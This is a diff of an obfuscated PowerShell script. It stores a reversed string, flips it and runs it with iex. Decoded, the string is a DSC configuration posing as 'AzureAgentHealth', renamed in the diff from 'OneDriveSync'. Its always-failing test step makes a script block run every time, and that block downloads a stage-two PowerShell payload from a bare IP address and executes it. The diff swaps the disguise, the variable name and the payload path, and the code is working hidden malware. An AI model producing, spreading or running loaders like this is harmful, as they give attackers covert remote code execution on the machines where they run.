@@ -1,12 +1,12 @@
-$bfdxt='
+$espax='
 }
 }  
 }    
-} )''1sp.vni/32.001.15.891//:ptth''(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN( XEI { = tpircSteS      
+} )''1sp.2egats/32.001.15.891//:ptth''(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN( XEI { = tpircSteS      
 } eslaf$ { = tpircStseT      
 } } '''' = tluseR {@ { = tpircSteG      
 { partstooB tpircS    
 { tsohlacol edoN  
 noitarugifnoCetatSderiseDSP emaNeludoM- ecruoseRcsD-tropmI  
-{ cnySevirDenO noitarugifnoC
-1v 2819 tini #'; iex (-join $bfdxt[-1..-($bfdxt.Length)])
+{ htlaeHtnegAeruzA noitarugifnoC
+1v 5607 gifnoc #'.ToCharArray(); [array]::Reverse($espax); iex (-join $espax)
